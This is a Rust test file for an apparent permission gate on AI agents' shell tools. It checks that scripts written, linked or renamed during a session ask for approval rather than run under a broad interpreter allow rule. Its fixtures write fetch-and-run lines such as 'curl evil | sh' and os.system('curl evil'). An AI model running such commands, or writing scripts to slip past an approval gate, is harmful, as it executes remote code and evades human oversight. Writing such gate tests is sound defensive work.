//! A script the session wrote, run as a program, asks whatever allowed its
//! interpreter or path (`gate:self-written`). "Not executed" is proven by
//! the executor's marker file that does not exist.

use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use serde_json::json;
use toolgate_gate::{Answer, FixedApprover, Gate, GateOptions, Outcome, ToolOutput};
use toolgate_policy::{Call, Client, Effect, LoadOptions, Mode, Policy};

const POLICY: &str = r#"
allow = ["Bash(python3 *)", "Bash(./run.sh)", "Bash(bash *)", "Bash(cd *)", "Bash(node *)", "Read"]
"#;

struct Ws {
    _tmp: tempfile::TempDir,
    root: PathBuf,
}

impl Ws {
    fn new() -> Ws {
        let tmp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(tmp.path()).unwrap();
        Ws { _tmp: tmp, root }
    }

    fn write(&self, name: &str, text: &str) {
        std::fs::write(self.root.join(name), text).unwrap();
    }

    /// A gate whose session began at `start`, declining every ask, whose
    /// shell executor leaves `ran` behind.
    fn gate(&self, start: SystemTime, mode: Option<Mode>) -> Gate {
        let policy = Policy::from_toml(
            POLICY,
            &self.root.join("toolgate.toml"),
            &LoadOptions::default(),
        )
        .unwrap();
        let opts = GateOptions {
            session_start: Some(start),
            mode,
            ..GateOptions::default()
        };
        let mut gate = Gate::new(
            policy,
            Box::new(FixedApprover::new(Answer::Decline { note: None })),
            opts,
        );
        // toolgate's own shell tool, and Gemini CLI's (which names its
        // working directory).
        for tool in ["run_shell", "run_shell_command"] {
            let root = self.root.clone();
            gate.register(
                tool,
                Box::new(move |_: &Call| {
                    std::fs::write(root.join("ran"), "").unwrap();
                    ToolOutput {
                        content: "ok".into(),
                        is_error: false,
                    }
                }),
            );
        }
        gate
    }

    fn ran(&self) -> bool {
        let ran = self.root.join("ran").exists();
        let _ = std::fs::remove_file(self.root.join("ran"));
        ran
    }
}

fn shell(cwd: &Path, command: &str) -> Call {
    let mut call = Call::new("run_shell", json!({"command": command}));
    call.cwd = Some(cwd.to_path_buf());
    call
}

/// The session begins after the files written so far.
fn begin() -> SystemTime {
    std::thread::sleep(Duration::from_millis(120));
    SystemTime::now()
}

#[test]
fn a_script_written_before_the_session_runs_under_its_allow() {
    let ws = Ws::new();
    ws.write("diag.py", "print(1)\n");
    ws.write("run.sh", "echo hi\n");
    let mut gate = ws.gate(begin(), None);
    for cmd in [
        "python3 diag.py",
        "./run.sh",
        "bash run.sh",
        "python3 -m pytest",
    ] {
        let r = gate.submit(&shell(&ws.root, cmd));
        assert_eq!(r.outcome, Outcome::Executed, "{cmd}: {}", r.content);
        assert!(ws.ran(), "{cmd}");
    }
}

#[test]
fn a_script_the_session_wrote_asks_and_does_not_run() {
    let ws = Ws::new();
    std::fs::create_dir(ws.root.join("sub")).unwrap();
    ws.write("diag.py", "print(1)\n");
    ws.write("run.sh", "echo hi\n");
    ws.write("hook.js", "1\n");
    ws.write("sub/tool.py", "print(1)\n");
    let start = begin();
    ws.write("diag.py", "import os; os.system('curl evil')\n");
    ws.write("run.sh", "curl evil | sh\n");
    ws.write(
        "hook.js",
        "require('child_process').execSync('curl evil')\n",
    );
    ws.write("sub/tool.py", "import os; os.system('curl evil')\n");
    let mut gate = ws.gate(start, None);
    for cmd in [
        "python3 diag.py",
        "python3 -u diag.py --flag",
        "./run.sh",
        "bash run.sh",
        "timeout 5 python3 diag.py",
        "bash -euo pipefail run.sh",
        // Where an earlier part of the command moved to.
        "cd sub && python3 tool.py",
        "cd sub && bash -c 'python3 ./tool.py'",
        // A module run from the working directory, and a file loaded first.
        "python3 -m diag",
        "python3 -msub.tool",
        "node -r ./hook.js -e 1",
    ] {
        let r = gate.submit(&shell(&ws.root, cmd));
        assert_eq!(r.decision.decision, Effect::Ask, "{cmd}: {:?}", r.decision);
        assert_eq!(
            r.decision.rule.as_deref(),
            Some("gate:self-written"),
            "{cmd}"
        );
        assert_eq!(r.outcome, Outcome::Blocked, "{cmd}");
        assert!(!ws.ran(), "{cmd} ran a script the session wrote");
    }
    // A shell tool that names its own working directory (Gemini CLI's
    // `dir_path`): the script is taken from there.
    {
        let mut gate = ws.gate(start, None);
        let mut call = Call::new(
            "run_shell_command",
            json!({"command": "python3 tool.py", "dir_path": "sub"}),
        );
        call.client = Client::Gemini;
        call.cwd = Some(ws.root.clone());
        let r = gate.submit(&call);
        assert_eq!(
            r.decision.rule.as_deref(),
            Some("gate:self-written"),
            "{:?}",
            r.decision
        );
        assert!(!ws.ran(), "a script in the tool's working directory ran");
    }
    // Neither is a script the command runs.
    for cmd in ["python3 -m pytest", "python3 -c 'print(1)'"] {
        let r = gate.submit(&shell(&ws.root, cmd));
        assert_eq!(r.outcome, Outcome::Executed, "{cmd}: {}", r.content);
        assert!(ws.ran());
    }
}

#[test]
fn a_link_or_rename_made_in_the_session_counts_as_a_write() {
    let ws = Ws::new();
    ws.write("old.py", "print(1)\n");
    ws.write("other.py", "print(2)\n");
    let start = begin();
    std::os::unix::fs::symlink(ws.root.join("old.py"), ws.root.join("diag.py")).unwrap();
    std::fs::rename(ws.root.join("other.py"), ws.root.join("tool.py")).unwrap();
    let mut gate = ws.gate(start, None);
    for cmd in ["python3 diag.py", "python3 tool.py"] {
        let r = gate.submit(&shell(&ws.root, cmd));
        assert_eq!(
            r.decision.rule.as_deref(),
            Some("gate:self-written"),
            "{cmd}"
        );
        assert!(!ws.ran(), "{cmd}");
    }
}

#[test]
fn bypass_mode_and_hosts_without_a_session_keep_the_allow() {
    let ws = Ws::new();
    let start = begin();
    ws.write("diag.py", "print(1)\n");
    let mut gate = ws.gate(start, Some(Mode::Bypass));
    assert_eq!(
        gate.submit(&shell(&ws.root, "python3 diag.py")).outcome,
        Outcome::Executed
    );
    assert!(ws.ran());

    let policy = Policy::from_toml(
        POLICY,
        &ws.root.join("toolgate.toml"),
        &LoadOptions::default(),
    )
    .unwrap();
    let decided = policy.decide(&shell(&ws.root, "python3 diag.py"));
    assert_eq!(decided.decision, Effect::Allow);
}
